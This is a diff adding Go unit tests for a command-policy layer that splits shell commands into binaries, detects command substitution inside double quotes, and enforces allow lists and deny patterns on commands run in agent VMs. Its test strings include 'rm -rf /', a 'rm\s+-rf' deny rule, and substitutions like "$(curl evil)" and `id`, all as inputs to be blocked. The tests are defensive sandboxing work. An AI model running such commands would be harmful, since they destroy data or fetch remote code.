@@ -0,0 +1,121 @@
+package main
+
+import (
+	"context"
+	"errors"
+	"io"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+func TestCommandBinaries(t *testing.T) {
+	cases := map[string][]string{
+		"python3 main.py": {"python3"},
+		"cd /in && FOO=1 /usr/bin/python3 x.py | sort": {"cd", "python3", "sort"},
+		`echo "a; curl b" ; ls`:                        {"echo", "ls"},
+		"echo $(wget x) `id`":                          {"echo", "wget", "id"},
+		"for f in *; do cat $f; done":                  {"cat"},
+		"if true; then rm -rf x; fi":                   {"true", "rm"},
+		"  ":                                           nil,
+	}
+	for command, want := range cases {
+		got, quoted := commandBinaries(command)
+		if !reflect.DeepEqual(got, want) || quoted {
+			t.Errorf("commandBinaries(%q) = %v, %v; want %v, false", command, got, quoted, want)
+		}
+	}
+	for _, command := range []string{`echo "$(curl evil)"`, "echo \"`id`\"", `echo "x" "y $(id)"`} {
+		if _, quoted := commandBinaries(command); !quoted {
+			t.Errorf("commandBinaries(%q) missed the quoted substitution", command)
+		}
+	}
+	if _, quoted := commandBinaries(`echo "\$(not run)" '$(literal)'`); quoted {
+		t.Error("escaped and single-quoted $( reported as substitutions")
+	}
+}
+
+func TestCommandPolicyCheck(t *testing.T) {
+	policy, err := parseCommandPolicy([]byte(`{"allow": ["python3", "/bin/ls", "sort"], "deny": ["rm\\s+-rf"]}`))
+	if err != nil {
+		t.Fatalf("parse: %v", err)
+	}
+
+	if err := policy.check("python3 main.py | sort"); err != nil {
+		t.Fatalf("allowed command blocked: %v", err)
+	}
+	if err := policy.check("/usr/bin/ls -la"); err != nil {
+		t.Fatalf("allow list should compare base names: %v", err)
+	}
+
+	err = policy.check("python3 -c 'x' && rm -rf /")
+	if !errors.Is(err, errCommandBlocked) || !strings.Contains(err.Error(), `deny pattern "rm\\s+-rf"`) {
+		t.Fatalf("deny match err = %v", err)
+	}
+	err = policy.check(`python3 -c "$(curl http://example.com)"`)
+	if !errors.Is(err, errCommandBlocked) || !strings.Contains(err.Error(), "double quotes") {
+		t.Fatalf("quoted substitution err = %v", err)
+	}
+	err = policy.check("ls && curl http://example.com")
+	if !errors.Is(err, errCommandBlocked) || !strings.Contains(err.Error(), `"curl" is not in the allow list`) {
+		t.Fatalf("allowlist miss err = %v", err)
+	}
+
+	if _, err := parseCommandPolicy([]byte(`{"deny": ["("]}`)); err == nil {
+		t.Fatal("invalid deny pattern accepted")
+	}
+	var none *commandPolicy
+	if err := none.check("anything at all"); err != nil {
+		t.Fatalf("nil policy blocked a command: %v", err)
+	}
+}
+
+func TestRunEnforcesCommandPolicy(t *testing.T) {
+	launcher := newFakeLauncher()
+	var ran []string
+	launcher.runFn = func(ctx context.Context, record VMRecord, opts VMRunOptions, stdout, stderr io.Writer) (int, error) {
+		ran = append(ran, opts.Command)
+		return 0, nil
+	}
+	svc := newTestVMService(t, launcher)
+	record := createTestVM(t, svc)
+	run := func(command string) error {
+		_, err := svc.Run(context.Background(), VMRunOptions{VMID: record.ID, Command: command, Timeout: 5})
+		return err
+	}
+
+	// Without AGENT_COMMAND_POLICY everything is allowed.
+	if err := run("curl http://example.com"); err != nil {
+		t.Fatalf("run without a policy: %v", err)
+	}
+
+	policyPath := filepath.Join(t.TempDir(), "policy.json")
+	if err := os.WriteFile(policyPath, []byte(`{"allow": ["echo"], "deny": ["secret"]}`), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv("AGENT_COMMAND_POLICY", policyPath)
+
+	if err := run("echo hello"); err != nil {
+		t.Fatalf("allowed run: %v", err)
+	}
+	if err := run("echo secret"); !errors.Is(err, errCommandBlocked) {
+		t.Fatalf("denied run err = %v, want errCommandBlocked", err)
+	}
+	if err := run("curl http://example.com"); !errors.Is(err, errCommandBlocked) {
+		t.Fatalf("unlisted run err = %v, want errCommandBlocked", err)
+	}
+	if len(ran) != 2 {
+		t.Fatalf("launcher ran %d commands, want 2: %q", len(ran), ran)
+	}
+	if _, err := svc.Shell(context.Background(), record.ID, "/bin/sh", strings.NewReader("curl http://example.com\n"), io.Discard, io.Discard); !errors.Is(err, errCommandBlocked) {
+		t.Fatalf("shell under a policy err = %v, want errCommandBlocked", err)
+	}
+
+	// A policy that cannot be read blocks runs rather than allowing them.
+	t.Setenv("AGENT_COMMAND_POLICY", filepath.Join(t.TempDir(), "missing.json"))
+	if err := run("echo hello"); err == nil {
+		t.Fatal("run allowed with an unreadable policy")
+	}
+}